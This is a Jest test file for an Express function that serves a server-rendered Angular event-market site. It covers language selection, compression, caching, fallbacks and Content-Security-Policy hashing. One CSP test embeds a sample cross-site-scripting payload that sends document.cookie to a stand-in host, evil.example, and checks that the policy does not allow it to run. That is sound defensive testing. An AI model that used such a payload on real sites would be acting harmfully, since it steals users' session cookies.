import cookieParser from 'cookie-parser';
import { createHash } from 'node:crypto';
import express from 'express';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { brotliDecompressSync, gunzipSync } from 'node:zlib';
import { get } from 'node:http';
import { AddressInfo } from 'node:net';
import request from 'supertest';
import { RenderPage } from './page-renderer';
import { serveBuiltWebApp } from './serve-web-app';

const EVENT_ID = '0e7d130b-5d43-454c-a593-b0bf254cd4b1';
const SCRIPT = 'console.log("Markt der Möglichkeiten");\n'.repeat(200);

/** Status, headers and body as sent (supertest would decompress it). */
async function fetchRaw(
  server: express.Express,
  path: string,
  headers: Record<string, string>,
): Promise<{ status: number; headers: Record<string, string | string[] | undefined>; body: Buffer }> {
  const listening = server.listen(0, '127.0.0.1');
  await new Promise((resolve) => listening.once('listening', resolve));
  try {
    const { port } = listening.address() as AddressInfo;
    return await new Promise((resolve, reject) =>
      get({ host: '127.0.0.1', port, path, headers }, (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (chunk: Buffer) => chunks.push(chunk));
        res.on('end', () =>
          resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks) }),
        );
      }).on('error', reject),
    );
  } finally {
    listening.close();
  }
}

describe('serveBuiltWebApp', () => {
  let dir: string;

  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'markt-web-'));
    writeFileSync(join(dir, 'index.csr.html'), '<html><body><app-root></app-root></body></html>');
    writeFileSync(join(dir, 'main-ABCD1234.js'), SCRIPT);
  });

  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  function app(renderPage: RenderPage | null) {
    const server = express();
    server.use(cookieParser());
    const market = jest.fn(async () => ({ event: { title: 'Markt 2025' } }) as never);
    serveBuiltWebApp(server, dir, {
      sources: () => ({ market, openEvent: async () => null }),
      loadRenderPage: async () => renderPage,
    });
    server.use((_req, res) => res.status(404).send('api'));
    return { server, market };
  }

  const render: RenderPage = async (path, context) => ({
    status: 200,
    html: `<html lang="${context.lang}"><body>${path}: ${context.market?.data?.event.title ?? 'nicht veröffentlicht'}</body></html>`,
  });

  it('answers the market page with its content in the first response, in the visitor’s language', async () => {
    const { server } = app(render);
    const german = await request(server).get(`/markt/${EVENT_ID}`).expect(200);
    expect(german.headers['content-type']).toContain('text/html');
    expect(german.headers['cache-control']).toBe('no-cache');
    expect(german.headers['vary']).toBe('Accept-Encoding, Cookie');
    expect(german.text).toBe(`<html lang="de"><body>/markt/${EVENT_ID}: Markt 2025</body></html>`);

    const english = await request(server).get(`/markt/${EVENT_ID}`).set('Cookie', 'markt_lang=en').expect(200);
    expect(english.text).toContain('<html lang="en">');
  });

  it('allows exactly Angular’s two inline scripts in its Content-Security-Policy: no other script, never the JSON of its data', async () => {
    const contract = '(()=>{window.__jsaction_contract=1})();';
    const replay = 'window.__jsaction_bootstrap(document.body,"ng",["click","keydown"],["focus"]);';
    const injected = 'fetch("https://evil.example/"+document.cookie)';
    const server = express();
    server.use((_req, res, next) => {
      res.setHeader('Content-Security-Policy', "default-src 'self';script-src 'self';object-src 'none'");
      next();
    });
    server.use(cookieParser());
    serveBuiltWebApp(server, dir, {
      sources: () => ({
        market: async () => ({ event: { title: 'Markt 2025' } }) as never,
        openEvent: async () => null,
      }),
      loadRenderPage: async () => async () => ({
        status: 200,
        html:
          `<html><head><script type="text/javascript" id="ng-event-dispatch-contract">${contract}</script>` +
          `<script type="text/javascript">${replay}</script></head>` +
          `<body><p><script>${injected}</script><script id="ng-event-dispatch-contract">${injected}</script></p>` +
          `<script src="main-ABCD1234.js" type="module"></script><script id="ng-state" type="application/json">{"a":1}</script></body></html>`,
      }),
    });
    const page = await request(server).get(`/markt/${EVENT_ID}`).expect(200);
    const hash = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`;
    expect(page.headers['content-security-policy']).toBe(
      `default-src 'self';script-src 'self' ${hash(contract)} ${hash(replay)};object-src 'none'`,
    );
  });

  it('sends the page compressed and answers 304 to a client that has it', async () => {
    const { server } = app(render);
    const br = await fetchRaw(server, `/markt/${EVENT_ID}`, { 'Accept-Encoding': 'br, gzip' });
    expect(br.status).toBe(200);
    expect(br.headers['content-encoding']).toBe('br');
    expect(brotliDecompressSync(br.body).toString()).toContain('Markt 2025');
    await request(server).get(`/markt/${EVENT_ID}`).set('If-None-Match', String(br.headers['etag'])).expect(304);
  });

  it('serves the shell for an id that is no event at all (it says "not published" there)', async () => {
    const { server, market } = app(render);
    await request(server)
      .get('/markt/unbekannt')
      .expect(200, /<app-root><\/app-root>/);
    expect(market).not.toHaveBeenCalled();
  });

  it('falls back to the client-rendered shell without a server bundle or when rendering fails', async () => {
    await request(app(null).server)
      .get(`/markt/${EVENT_ID}`)
      .expect(200, /<app-root><\/app-root>/);
    const failing = app(async () => {
      throw new Error('boom');
    });
    await request(failing.server)
      .get(`/markt/${EVENT_ID}`)
      .expect(200, /<app-root><\/app-root>/);
  });

  it('serves the shell for other pages and leaves /api alone', async () => {
    const { server } = app(render);
    const shell = await request(server).get('/veranstaltungen').expect(200);
    expect(shell.text).toContain('<app-root></app-root>');
    expect(shell.headers['cache-control']).toBe('no-cache');
    await request(server).get('/api/events').expect(404, 'api');
    // Not even a file of that name in the build answers for the API.
    mkdirSync(join(dir, 'api'));
    writeFileSync(join(dir, 'api', 'health'), 'a file');
    await request(server).get('/api/health').expect(404, 'api');
  });

  it('serves scripts compressed (brotli or gzip) and cacheable for good, plain to clients that take no compression', async () => {
    const { server } = app(render);
    const br = await fetchRaw(server, '/main-ABCD1234.js', { 'Accept-Encoding': 'gzip, br' });
    expect(br.status).toBe(200);
    expect(br.headers['content-encoding']).toBe('br');
    expect(br.headers['content-type']).toContain('javascript');
    expect(br.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    expect(br.headers['vary']).toBe('Accept-Encoding');
    expect(brotliDecompressSync(br.body).toString()).toBe(SCRIPT);
    expect(br.body.length).toBeLessThan(SCRIPT.length / 10);

    const gzip = await fetchRaw(server, '/main-ABCD1234.js', { 'Accept-Encoding': 'gzip' });
    expect(gzip.headers['content-encoding']).toBe('gzip');
    expect(gunzipSync(gzip.body).toString()).toBe(SCRIPT);
    await request(server)
      .get('/main-ABCD1234.js')
      .set('If-None-Match', String(gzip.headers['etag']))
      .set('Accept-Encoding', 'gzip')
      .expect(304);

    const plain = await request(server).get('/main-ABCD1234.js').set('Accept-Encoding', 'identity').expect(200);
    expect(plain.headers['content-encoding']).toBeUndefined();
    expect(plain.text).toBe(SCRIPT);

    await request(server)
      .get('/missing-ABCD1234.js')
      .set('Accept-Encoding', 'br')
      .expect(200, /<app-root>/);
  });
});
